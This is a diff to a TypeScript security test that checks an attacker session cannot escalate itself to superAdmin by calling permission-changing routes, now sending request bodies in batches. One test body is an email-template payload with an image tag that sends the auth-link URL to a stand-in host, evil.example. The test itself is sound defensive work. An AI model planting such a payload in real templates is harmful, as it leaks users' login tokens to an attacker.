@@ -52,15 +52,27 @@ describe('nobody makes themselves superAdmin', () => {
       const held = await heldBy(attacker);
       const before = await reach(attacker, held);
       for (const route of changing.filter(({ permission }) => permission && held.has(permission))) {
-        for (const body of bodiesOf(route)) {
-          await callAs(attacker, route, body);
-          expect([nameOf(route), body, await reach(attacker, held)]).toEqual([nameOf(route), body, before]);
+        for (const bodies of groupsOf(bodiesOf(route))) {
+          for (const body of bodies) await callAs(attacker, route, body);
+          expect([nameOf(route), bodies, await reach(attacker, held)]).toEqual([
+            nameOf(route),
+            bodies,
+            before,
+          ]);
         }
       }
     },
     60_000,
   );
 });
+
+/**
+ * Bodies that are sent before the next look. None takes back what an earlier one won: whatever a route accepts for the
+ * same value again is hostile too.
+ */
+function groupsOf(bodies: object[]): object[][] {
+  return bodies.flatMap((_, at) => (at % 12 === 0 ? [bodies.slice(at, at + 12)] : []));
+}
 
 function bodiesOf(route: Route): object[] {
   if (isTemplate(route)) return [{ body: '<img src="https://evil.example/?t={{url}}">' }, { subject: 'evil', body: '<p>{{url}}</p>' }]; // prettier-ignore
@@ -108,10 +120,11 @@ async function reach(attacker: TestSession, start: ReadonlySet<Permission>) {
     knex('accounts_users').where({ id: fixtures.admin.userId }).first('email', 'bannedAt'),
   ]);
   const storeUrl = settings.get(storeSettings.storeUrl) || settings.get(storeSettings.canonicalBaseUrl);
-  const links = (Object.keys(authLinks) as AuthLinkTemplate[]).map(
-    (template) =>
-    authLink({ template, storeUrl, path: settings.get(storeSettings[authLinks[template].path]), token: 't', serverUrl: 'u' }), // prettier-ignore
-  );
+  const links = (Object.keys(authLinks) as AuthLinkTemplate[]).map((template) => {
+    const path = settings.get(storeSettings[authLinks[template].path]);
+    const serverUrl = `${config.PUBLIC_API_BASE_URL}/auth/link`;
+    return authLink({ template, storeUrl, path, token: 't', serverUrl, ownUrl: config.PUBLIC_API_BASE_URL });
+  });
   return {
     more: [...held, ...keys.flat()].filter((permission) => !start.has(permission)),
     root,
